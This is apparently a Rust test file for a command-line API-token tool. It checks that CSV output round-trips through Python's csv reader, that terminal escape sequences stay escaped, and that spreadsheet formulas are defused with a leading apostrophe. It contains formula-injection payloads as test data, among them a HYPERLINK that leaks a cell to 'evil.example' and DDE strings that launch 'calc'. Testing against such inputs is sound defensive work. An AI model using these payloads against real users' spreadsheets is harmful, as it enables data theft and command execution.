//! `-o csv` is RFC 4180 that any CSV reader reads back: what the API sent comes out of a
//! reader as it went in (commas, quotes, line breaks, tabs, non-ASCII), except what the one
//! safe-text rule escapes (terminal hazards: ESC, BEL, CR, DEL, C1 controls, bidi overrides)
//! and the `'` before a cell a spreadsheet would run as a formula. Python's `csv` module,
//! beside the reference `avn`, is the reader.

use std::path::PathBuf;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::support::server::{Canned, ScriptedServer};
use crate::support::{avn_binary, cmd};

/// The rows Python's `csv.reader` reads from `text`, or `None` where the reference Python
/// (the one beside `avn`) is missing outside CI.
fn python_reads(text: &str) -> Option<Vec<Vec<String>>> {
    let avn = avn_binary()?;
    let python: PathBuf = avn.with_file_name("python3");
    let script = "import csv, io, json, sys\n\
                  text = sys.stdin.buffer.read().decode('utf-8')\n\
                  print(json.dumps(list(csv.reader(io.StringIO(text, newline='')))))";
    let mut child = Command::new(&python)
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap_or_else(|error| panic!("{} does not start: {error}", python.display()));
    std::io::Write::write_all(&mut child.stdin.take().expect("stdin"), text.as_bytes())
        .expect("python reads stdin");
    let output = child.wait_with_output().expect("python ends");
    assert!(output.status.success(), "python's csv failed on {text:?}");
    Some(serde_json::from_slice(&output.stdout).expect("python printed JSON"))
}

fn listing(tokens: Vec<Value>) -> ScriptedServer {
    ScriptedServer::always(Canned::json(200, json!({ "tokens": tokens })))
}

fn token(prefix: &str, description: &str) -> Value {
    json!({"token_prefix": prefix, "description": description, "max_age_seconds": 3600})
}

/// `list -o csv` read back by Python: the description column, row by row.
fn descriptions_read_back(server: &ScriptedServer) -> Option<Vec<String>> {
    let out = cmd().api(server).args(["list", "-o", "csv"]).run();
    out.success();
    let rows = python_reads(&out.stdout)?;
    assert_eq!(rows[0][1..3], ["token_prefix", "description"], "{rows:?}");
    Some(rows[1..].iter().map(|row| row[2].clone()).collect())
}

#[test]
fn descriptions_round_trip_through_a_csv_reader() {
    let data = [
        "deploy, prod",
        "say \"hi\"",
        "line one\nline two",
        // A backslash and an n: not the line break above.
        r"back\nslash",
        "col\tumn",
        "  padded  ",
        "",
        "Café 日本 🎉",
        "ends with a line break\n",
    ];
    let server = listing(
        data.iter()
            .enumerate()
            .map(|(index, text)| token(&format!("TOKEN{index:07}"), text))
            .collect(),
    );
    let Some(read) = descriptions_read_back(&server) else {
        return;
    };
    assert_eq!(read, data);
}

/// Terminal hazards stay escaped as everywhere else (`\u001b`, `\r`): a CSV file shown with
/// `cat` must not drive the terminal. A line feed and a tab inside a quoted field are data.
#[test]
fn terminal_hazards_stay_escaped() {
    let server = listing(vec![
        token("TOKEN0000001", "red\u{1b}[31m alert\u{7}"),
        token("TOKEN0000002", "over\rwritten"),
        token("TOKEN0000003", "abc\u{202e}fed\u{9b}2J\u{7f}"),
    ]);
    let out = cmd().api(&server).args(["list", "-o", "csv"]).run();
    out.success();
    for hazard in ['\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{9b}', '\u{7f}'] {
        // Lines end in CRLF (RFC 4180): a CR anywhere else is a hazard that got through.
        let raw = out.stdout.replace("\r\n", "\n");
        assert!(!raw.contains(hazard), "{hazard:?} in {:?}", out.stdout);
    }
    let Some(read) = descriptions_read_back(&server) else {
        return;
    };
    assert_eq!(
        read,
        [
            r"red\u001b[31m alert\u0007",
            r"over\rwritten",
            r"abc\u202efed\u009b2J\u007f"
        ]
    );
}

/// Issue 18.8: a cell that a spreadsheet would run as a formula (it starts with `=`, `+`,
/// `-`, `@` or a tab: OWASP's list) is written with a leading `'`, so it shows as text.
/// Plain base64 cannot call a function, and token prefixes and tokens are base64 that may
/// start with `+` or `/`: they are written as they are, as are numbers.
#[test]
fn formulas_from_the_server_are_defused_and_prefixes_kept() {
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "\t=1+1",
    ];
    let mut tokens: Vec<Value> = formulas
        .iter()
        .enumerate()
        .map(|(index, text)| token(&format!("TOKEN{index:07}"), text))
        .collect();
    tokens
        .push(json!({"token_prefix": "+bgWywIh/XCJ", "description": "+1", "max_age_seconds": -1}));
    tokens.push(
        json!({"token_prefix": "/+abc=", "description": "/x", "last_ip": ["=1+1", "10.0.0.1"]}),
    );
    let server = listing(tokens);
    let out = cmd().api(&server).args(["list", "-o", "csv"]).run();
    out.success();
    let Some(rows) = python_reads(&out.stdout) else {
        return;
    };
    let column = |name: &str| {
        let at = rows[0].iter().position(|c| c == name).expect("a column");
        rows[1..]
            .iter()
            .map(|row| row[at].clone())
            .collect::<Vec<_>>()
    };
    let descriptions = column("description");
    for (read, formula) in descriptions.iter().zip(formulas) {
        assert_eq!(read, &format!("'{formula}"));
    }
    assert_eq!(descriptions[formulas.len()..], ["+1", "/x"]);
    assert_eq!(
        column("token_prefix")[formulas.len()..],
        ["+bgWywIh/XCJ", "/+abc="]
    );
    assert_eq!(column("max_age_seconds")[formulas.len()], "-1");
    assert_eq!(column("last_ip")[formulas.len() + 1], "'=1+1;10.0.0.1");
}

/// The new token that `create -o csv` prints may start with `+` or `/`: it is written as the
/// API sent it, whole.
#[test]
fn a_new_token_is_printed_whole() {
    let full_token = "+6JsKDclT3OMQd1V2Fl2/RaraBPg==";
    let server = ScriptedServer::always(Canned::json(
        200,
        json!({"token_prefix": "+6JsKDclT3OM", "full_token": full_token, "description": "=x"}),
    ));
    let out = cmd()
        .api(&server)
        .args(["create", "--description", "=x", "-o", "csv"])
        .run();
    out.success();
    let Some(rows) = python_reads(&out.stdout) else {
        return;
    };
    assert_eq!(
        rows,
        [
            [
                "expiry_time",
                "description",
                "max_age_seconds",
                "extend_when_used",
                "full_token"
            ],
            ["", "'=x", "", "", full_token]
        ]
    );
}

/// The audit report is the CSV most likely to be opened in a spreadsheet, and an
/// application user's name is set by whoever administers the organization.
#[test]
fn the_audit_report_defuses_formulas_in_owner_names() {
    let name = "=HYPERLINK(\"http://evil.example\",\"ci\")";
    let server = ScriptedServer::start(move |request| {
        let body = match request.path.as_str() {
            "/v1/organizations" => json!({"organizations": [{"organization_id": "o"}]}),
            "/v1/me" => json!({"user": {"user": "dev@example.com"}}),
            "/v1/access_token" => json!({"tokens": []}),
            "/v1/organization/o/application-users" => {
                json!({"application_users": [{"user_id": "u1", "name": name}]})
            }
            _ => json!({"tokens": [{"token_prefix": "+bgWywIh/XCJ", "expiry_time": null}]}),
        };
        Canned::json(200, body)
    });
    let out = cmd().api(&server).args(["audit", "-o", "csv"]).run();
    out.code(5);
    let Some(rows) = python_reads(&out.stdout) else {
        return;
    };
    assert_eq!(
        rows[0][..4],
        ["owner", "owner_type", "owner_id", "token_prefix"]
    );
    assert_eq!(
        rows[1][..4],
        [
            &format!("'{name}"),
            "application-user",
            "u1",
            "+bgWywIh/XCJ"
        ]
    );
}

/// `list -o csv | head -c 16` ends quietly with status 0, as the table does: the CSV
/// writer's errors keep saying "closed pipe".
#[cfg(unix)]
#[test]
fn a_closed_stdout_ends_quietly() {
    use std::io::Read;
    // Enough rows that the output cannot fit in the pipe buffer.
    let server = listing(
        (0..3000)
            .map(|index| token(&format!("TOKEN{index:07}"), &"x".repeat(40)))
            .collect(),
    );
    let mut running = cmd().api(&server).args(["list", "-o", "csv"]).spawn();
    let mut stdout = running.child.stdout.take().expect("piped stdout");
    let mut first = [0u8; 16];
    stdout.read_exact(&mut first).expect("the header");
    drop(stdout);
    let out = running.finish();
    out.success();
    assert_eq!(out.stderr, "");
}
